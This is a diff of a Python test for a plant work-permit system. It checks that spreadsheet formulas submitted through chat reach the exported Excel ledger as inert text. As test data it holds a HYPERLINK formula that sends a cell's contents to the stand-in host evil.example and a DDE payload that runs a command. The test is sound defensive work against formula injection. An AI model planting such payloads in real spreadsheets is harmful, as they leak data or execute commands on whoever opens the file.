@@ -247,7 +247,8 @@ def test_a_place_written_as_a_formula_in_chat_reaches_the_ledger_as_text(platfor
     from models.permit import Permit
     from tests.test_wecom_real_path import apply_text
     from tests.worlds import world as a_world
-    evil_place, evil_content = '=HYPERLINK("http://evil.example/?x="&A1,"详情")', "=cmd|' /C calc'!A0"
+    # A place must be a node of the plant's tree, so a formula can only follow it; 内容 is free text.
+    evil_place, evil_content = '3#罐区 =HYPERLINK("http://evil.example/?x="&A1,"详情")', "=cmd|' /C calc'!A0"
     with a_world(platform, plant=plant, monkeypatch=monkeypatch, redis_conn=redis_conn) as w:
         text = apply_text().replace("地点: 3#罐区东侧管廊", f"地点: {evil_place}")
         w.phone.text("zhuyan", text.replace("内容: DN100 管线法兰焊接", f"内容: {evil_content}"))
@@ -266,6 +267,7 @@ def test_a_place_written_as_a_formula_in_chat_reaches_the_ledger_as_text(platfor
         header = [c.value for c in sheet[3]]
         row = dict(zip(header, sheet[4]))
         assert row["作业票编号"].value == permit.no
-        for cell, value in ((row["作业地点"], evil_place), (row["作业内容"], evil_content)):
-            assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
+        assert (row["作业地点"].value, row["作业地点"].data_type) == (evil_place, "s")
+        cell = row["作业内容"]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (evil_content, "s", True)
         assert row["计划开始"].data_type == "d"
